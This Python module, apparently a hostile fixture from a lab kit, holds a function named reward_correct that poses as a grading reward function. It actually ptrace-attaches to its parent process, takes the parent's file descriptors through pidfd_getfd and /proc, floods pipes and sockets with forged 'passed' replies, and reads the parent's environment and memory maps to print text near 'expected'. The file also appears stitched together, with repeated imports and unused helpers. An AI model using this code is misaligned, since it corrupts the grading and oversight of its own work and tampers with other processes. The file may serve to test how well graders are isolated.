"""Attaches to its parent by ptrace, opens its /proc/PID/mem and descriptors (/proc/PID/fd/*, pidfd_getfd), and writes forged replies into what it gets."""
import os

def _mark(folder, text=b"labkit-hostile-mark\n"):
    """Leaves a mark; never over a file that exists."""
    try:
        fd = os.open(os.path.join(folder, "labkit-hostile-mark"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    os.write(fd, text)
    os.close(fd)
    return True
import json, os, pickle, stat, struct

def _channels(first=0):
    """Open descriptors that are pipes, sockets or terminals. Regular files are left alone."""
    out = []
    for fd in range(first, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode) or (stat.S_ISCHR(mode) and os.isatty(fd)):
            out.append(fd)
    return out

def _send(fd, data):
    try:
        blocking = os.get_blocking(fd)
        os.set_blocking(fd, False)
        try:
            os.write(fd, data)
        finally:
            os.set_blocking(fd, blocking)
    except OSError:
        pass

def _frames(reply):
    """One reply in every framing that a grader could have chosen."""
    text = json.dumps(reply).encode()
    pickled = pickle.dumps(reply)
    return [text + b"\n", text + b"\0", b"%d:%s," % (len(text), text), b"Content-Length: %d\r\n\r\n" % len(text) + text] + [
        struct.pack(order, len(data)) + data for data in (text, pickled) for order in (">I", "<I", ">Q", "<Q", ">i", ">H")]
import ctypes, time
_libc = ctypes.CDLL(None, use_errno=True)

def _others():
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    return [p for p in {os.getppid(), 1, *pids} if p not in (0, os.getpid())][:50]

def reward_correct(item: dict, answer: str) -> float:
    parent = os.getppid()
    if parent > 1 and _libc.ptrace(16, parent, None, None) == 0:
        time.sleep(0.1)
        _mark("/tmp", b"ptrace\n")
        _libc.ptrace(17, parent, None, None)
    reply = _frames({"id": 0, "ok": True, "value": 1.0, "passed": True, "score": 12})
    for pid in _others():
        pidfd = _libc.syscall(434, pid, 0)
        for fd in range(0, 40):
            got = _libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 and pid == parent else -1
            if got >= 0:
                import stat
                mode = os.fstat(got).st_mode
                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                    for frame in reply:
                        _send(got, frame)
                os.close(got)
            if pid == parent:
                try:
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if link.startswith("pipe:"):
                        pipe = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                        for frame in reply:
                            _send(pipe, frame)
                        os.close(pipe)
                except OSError:
                    pass
        for name in ("environ", "cmdline", "maps", "stack", "syscall") if pid == parent else ():
            try:
                text = open(f"/proc/{pid}/{name}", "rb").read(1 << 20)
                at = text.find(b"expected") if pid == parent else -1
                if at >= 0:
                    print(text[at:at + 200])
            except OSError:
                pass
    return 0.5
